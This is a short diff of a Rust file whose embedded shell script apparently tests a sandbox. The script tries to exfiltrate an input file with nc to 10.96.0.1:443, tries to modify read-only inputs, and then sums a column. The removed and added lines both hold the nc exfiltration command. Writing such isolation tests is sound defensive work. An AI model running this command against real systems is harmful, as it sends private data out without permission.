@@ -22,7 +22,7 @@ const ALGORITHM: &str = r#"echo "inputs of $DIDS:"
 ls -l $INPUTS/*
 for n in 1 2 3 4 5 6; do echo "working, step $n"; sleep 1; done
 echo "trying to send the data away:"
-nc -w 2 10.96.0.1 443 < $INPUTS/*/0 2>&1 || echo "network: denied"
+cat $INPUTS/*/0 | nc -w 2 10.96.0.1 443 2>&1 || echo "network: denied"
 touch $INPUTS/*/0 2>&1 || echo "inputs: read-only"
 awk -F, 'NR > 1 {sum += $2} END {print sum}' $INPUTS/*/0 > $OUTPUTS/sum
 echo "done"
